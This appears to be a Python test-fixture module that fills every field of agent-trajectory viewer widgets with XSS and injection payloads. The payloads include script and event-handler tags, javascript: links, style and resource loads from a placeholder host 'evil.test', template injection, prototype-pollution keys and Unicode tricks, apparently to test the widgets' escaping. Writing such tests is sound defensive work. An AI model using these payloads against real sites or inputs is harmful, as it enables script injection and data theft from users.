"""Texts that try to run as code, and trees, scores and runs that carry them in every field a model or a page can fill.

Each payload would set ``window.pwned``, open a dialog, or ask for an address at ``evil.test``, were it ever taken for
HTML, a link, a style, a template or a regular expression.
"""

from __future__ import annotations

import json
from collections.abc import Mapping
from types import SimpleNamespace
from typing import Any

import numpy as np

from widgets.component import Component
from workbench.errors import SettingError
from workbench.scores import Level, Part, Scores, Status
from workbench.trajectory import Call, Context, End, Hit, Span, Step, SubQuestion, Task, Trajectory, Tree

RUN = "window.pwned=1"
EVIL = "http://evil.test"

PAYLOADS: Mapping[str, str] = {
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": f"<script src={EVIL}/a.js></script>",
    "image": f"<img src=x onerror='{RUN}'>",
    "image from elsewhere": f"<img src={EVIL}/pixel.png>",
    "svg": f"<svg onload='{RUN}'><animate onbegin='{RUN}' attributeName=x dur=1s></svg>",
    "svg script": f"<svg><script>{RUN}</script></svg>",
    "frame": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "object": f"<object data='{EVIL}/a.swf'></object><embed src='{EVIL}/b'>",
    "details": f"<details open ontoggle='{RUN}'>x</details>",
    "input": f"<input autofocus onfocus='{RUN}'>",
    "style": f"<style>@import '{EVIL}/a.css'; * {{ background: url({EVIL}/b) }}</style>",
    "style of an element": f"<p style=\"background:url('{EVIL}/c');width:expression({RUN})\">x</p>",
    "animation": f"<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart='{RUN}'>x</b>",
    "stylesheet": f"<link rel=stylesheet href={EVIL}/d.css><base href={EVIL}>",
    "another page": f"<meta http-equiv=refresh content='0;url={EVIL}'><form action={EVIL}><button>x</button>",
    "javascript link": f"javascript:{RUN}",
    "javascript link, spaced": f"  java\tscript:{RUN}//",
    "data link": f"data:text/html,<script>{RUN}</script>",
    "markdown": f"[click](javascript:{RUN}) ![x]({EVIL}/m.png) <{EVIL}> `<img src=x onerror={RUN}>`",
    "mathematics": f"$$\\href{{javascript:{RUN}}}{{x}}$$ \\( \\unicode{{<img src=x onerror={RUN}>}} \\)",
    "attribute": f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    "attribute, single": f"' onpointerenter='{RUN}' x='",
    "end of script": f"</script><script>{RUN}</script>",
    "end of title, text, style": f"</title></textarea></style></pre></option></select><img src=x onerror={RUN}>",
    "end of a section": f"]]>--><img src=x onerror={RUN}><!--",
    "template text": f"${{{RUN}}} {{{{{RUN}}}}} {{%{RUN}%}} <%={RUN}%> #{{{RUN}}} `+({RUN})+`",
    "string": f"';{RUN};//\\';{RUN};//\";{RUN};//\n{RUN}",
    "formatter": f"<%- (function(){{{RUN}}})() %> function(x){{{RUN}}} @value{{custom}} @{{x}}{{safe}}",
    "prototype": "__proto__",
    "constructor": "constructor",
    "pattern": "(a+)+$ [ ( * \\ ?",
    "entities": f"&lt;img src=x onerror={RUN}&gt; &#60;script&#62;{RUN}&#60;/script&#62; &amp;lt;",
    "wide brackets": f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e \u2039img\u203a \x00<\x00script>{RUN}</script>",
    "written backwards": f"\u202e<script>{RUN}</script>\u202c \u2066x\u2069 \u061c\u200f",
    "line ends": f"a\u2028{RUN}\u2029b\u0085c\r\n{RUN}",
    "half a character": "a\ud800b\udfff<b>c</b>",
    "marks without end": "Z" + "\u0335\u0321\u0489" * 400,
    "long": f"<b>{'long ' * 800}</b><img src=x onerror={RUN}>",
    "one long word": "x" * 5_000,
}


TOGETHER = "\n".join(text for text in PAYLOADS.values() if len(text) < 300)


def shown(text: str) -> str:
    """What a page can show of a text: halves of characters do not survive UTF-8."""
    return text.encode("utf-8", "replace").decode()


# ---------------------------------------------------------------- trees and scores


def poisoned_tree(bait: str) -> Tree:
    """Three trajectories (answered, failed, without steps) that carry the bait in every text.

    Ids are sent back by the page, so they are what UTF-8 can carry.
    """
    id = shown(bait)
    sub = SubQuestion(bait, (bait,), bait, (bait,))
    task = Task(id, bait, (bait,), frozenset({bait}), (sub,), ({bait: bait},), bait, {bait: bait})
    answered = Trajectory(f"{id} a", task, (_search(bait), _tool(bait), _answer(bait)), End.ANSWERED, bait, bait)
    failed = Trajectory(f"{id} b", task, (_search(f"{bait} other"),), End.FAILED, bait, bait)
    return Tree(id, task, (answered, failed, Trajectory(f"{id} c", task, (), End.FAILED, bait, bait)), {bait: bait})


def _search(bait: str) -> Step:
    hits = (Hit(bait, bait, bait, 0.5, 0, bait), Hit(f"{bait} 2", bait, bait, float("nan"), 1, bait, shown=5))
    call = Call("search", {"query": bait, bait: bait, "__proto__": bait, "nested": {bait: [bait]}}, hits)
    spans = (Span("think", bait), Span("query", bait), Span(bait, bait))
    return Step(f"{bait} 0", bait, (call,), spans, bait, None, Context(bait), bait, bait)


def _tool(bait: str) -> Step:
    calls = (Call(bait, {bait: bait}, (), bait), Call(bait, {}, (), None, bait, valid=False))
    return Step(f"{bait} 1", bait, calls, (), bait, None, Context(bait), bait, bait, valid=False)


def _answer(bait: str) -> Step:
    return Step(f"{bait} 2", bait, (), (Span("think", bait), Span("answer", bait)), "", None, None, bait, bait)


def poisoned_scores(tree: Tree, bait: str) -> list[Scores]:
    """Scores in three parts whose names and reasons are bait: per step, per trajectory, and one that is missing."""
    return [_scores(len(trajectory.steps), bait) for trajectory in tree]


def _scores(steps: int, bait: str) -> Scores:
    paid = Scores.steps(np.full(steps, 0.5), [bait] * steps)
    judged = Scores.missing(bait, steps, level=Level.STEP)
    whole = Scores.trajectory(1.0, bait)
    parts = (Part(bait, 1.0, paid), Part(f"{bait} judge", 0.5, judged), Part(f"{bait} whole", 1.0, whole))
    return Scores(np.full(steps, np.nan), np.full(steps, Status.MISSING), (bait,) * steps, Level.STEP, parts)


def stepper(names: list[str] | None = None) -> Component:
    """A StepThrough of one poisoned tree for each payload."""
    from widgets import StepThrough

    baits = [PAYLOADS[name] for name in names or PAYLOADS]
    trees = [poisoned_tree(bait) for bait in baits]
    return StepThrough(trees, [poisoned_scores(tree, bait) for tree, bait in zip(trees, baits, strict=True)], who=RUN)


# ---------------------------------------------------------------- a run


def poisoned_run(bait: str) -> Any:
    """A recorded run whose name, parts, checks, plan, ends and groups are bait; a RunMonitor watches it."""
    reports = [_report(update, bait) for update in (1, 2)]
    tree = poisoned_tree(bait)
    walked = Tree(tree.id, tree.task, tree.trajectories[:2])
    scored = poisoned_scores(walked, bait)
    newest = SimpleNamespace(run=bait, update=2, plan=None, trees=[walked], scores=[scored], advantages=None)
    plans = [(1, {"reward": _spec(bait)}), (2, {"reward": _spec(f"{bait} 2")})]
    known = {"name": bait, "status": "running", "update": 2, "updates": 9, "continues": {"run": bait, "update": 1}}
    return SimpleNamespace(**known, steers=False, reports=reports, plans=plans, latest=newest)


def _spec(bait: str) -> dict[str, Any]:
    return {"part": bait, "settings": {bait: bait}}


def _report(update: int, bait: str) -> dict[str, Any]:
    check = {"name": bait, "ok": False, "says": bait, "value": 1.0, "limit": 0.0}
    counts = {"rollouts": 4, "ends": {bait: 4}, "groups": 2, "equal_groups": 1, "searches": 1.0}
    return {"update": update, "run": bait, "mean_return": 0.5, "parts": {bait: 0.1}, "checks": [check], **counts}


def monitor(bait: str = TOGETHER) -> Component:
    """A RunMonitor of a poisoned run."""
    from widgets import RunMonitor

    return RunMonitor(poisoned_run(bait))


# ---------------------------------------------------------------- rows and questions


def table(link: str = "") -> Component:
    """A RolloutTable of one row for each payload, whose columns and choices are payloads too."""
    from widgets.rollout_table import Column, RolloutTable, part_column
    from workbench.store.browsing import Page, Paid

    baits = list(PAYLOADS.values())
    named = [part_column(bait) for bait in baits[:6]]
    columns = [
        Column("question", baits[0], "text", says=baits[1], filter="choice", choices=tuple(baits)),
        Column("answers", baits[2], "list", minor=True),
        Column("ended", baits[3], "end", says=baits[4]),
        *named,
    ]
    paid = {bait: Paid(0.5, Status.SCORED, edited=True, pays=0.5) for bait in baits[:6]}
    rows = [{"question": bait, "answers": json.dumps([bait]), "ended": bait, "parts": paid} for bait in baits]
    told = {"opens": ["question"], "label": baits[0], "finds": baits[0], "empty": baits[0], "link": link}
    return RolloutTable(columns, lambda query: Page(rows, len(rows)), **told)


def form() -> Component:
    """A Form whose fields, choices and errors are payloads."""
    from widgets.form import Field, Form

    fields = [Field(f"f{n}", bait, bait, says=bait) for n, bait in enumerate(PAYLOADS.values())]
    fields.append(Field("choice", "choice", PAYLOADS["script"], choices=tuple(PAYLOADS.values())))

    def refuse(answers: dict[str, Any]) -> str:
        raise SettingError(PAYLOADS["image"])

    return Form(fields, refuse, label=PAYLOADS["script"], send_label=PAYLOADS["image"])
